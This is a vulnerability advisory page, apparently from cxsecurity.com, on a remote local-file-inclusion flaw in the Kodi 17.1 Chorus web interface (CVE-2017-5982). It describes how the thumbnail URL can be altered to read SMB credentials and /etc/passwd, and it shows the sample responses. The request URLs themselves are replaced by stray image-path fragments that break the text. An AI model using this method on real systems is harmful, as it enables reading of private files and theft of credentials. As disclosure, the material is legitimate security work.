Kodi 17.1 Local File Inclusion

Credit: Eric Flokstra
Risk: Medium
Local: No
Remote: Yes

CVSS Base Score: 5/10
Impact Subscore: 2.9/10
Exploitability Subscore: 10/10
Exploit range: Remote
Attack complexity: Low
Authentication: No required
Confidentiality impact: Partial
Integrity impact: None
Availability impact: None

# Exploit Title: Kodi - Local File Inclusion # Date: 12 February 2017 # Exploit Author: Eric Flokstra # Vendor Homepage: https://kodi.tv/ # Software Link: https://kodi.tv/download/ # Version: Kodi version 17.1 (Krypton), Chorus version 2.4.2 # Tested on: Linux # CVE: CVE-2017-5982 Kodi (formerly XBMC) is a free and open-source media player software application developed by the XBMC Foundation. Chorus is a web interface for controlling and interacting with Kodi. It is hosted by the Kodi installation. The web interface loads a thumbnail of an image, video or add-on when selecting a category in the left menu with the following request: Insufficient validation of user input is performed on this URL resulting in a local file inclusion vulnerability. This enables attackers to retrieve arbitrary files from the filesystem by changing the location after the '/image/image%3A%2F%2Fapart. <--Examples--> 1) If Kodi is connected to a NAS the following request can be used to obtain plain-text SMB credentials: Response: <passwords><path><from pathversion="1">smb://</from><to pathversion="1">smb://username:password@</to></path></passwords> 2) Request toretrieve the content of /etc/passwd: Response: root:x:0:0:root:/root:/bin/bash daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin bin:x:2:2:bin:/bin:/usr/sbin/nologin sys:x:3:3:sys:/dev:/usr/sbin/nologin sync:x:4:65534:sync:/bin:/bin/sync games:x:5:60:games:/usr/games:/usr/sbin/nologin man:x:6:12:man:/var/cache/man:/usr/sbin/nologin lp:x:7:7:lp:/var/spool/lpd:/usr/sbin/nologin mail:x:8:8:mail:/var/mail:/usr/sbin/nologin news:x:9:9:news:/var/spool/news:/usr/sbin/nologin uucp:x:10:10:uucp:/var/spool/uucp:/usr/sbin/nologin proxy:x:13:13:proxy:/bin:/usr/sbin/nologin www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin ... -- --- PGP Key ID = 0x6D336541EAB627EE Fingerprint = DFBB E38E D848 4658 EC4C D161 6D33 6541 EAB6 27EE https://pgp.mit.edu/pks/lookup?search=erp.flokstra@gmail.com&op=index ---

Vote for this issue:


Thanks for you vote!Thanks for you comment!Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{ x.ux *1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000| date:'HH:mm' }} CET+1
{{ x.comment }}

Copyright2018, cxsecurity.com


Back to Top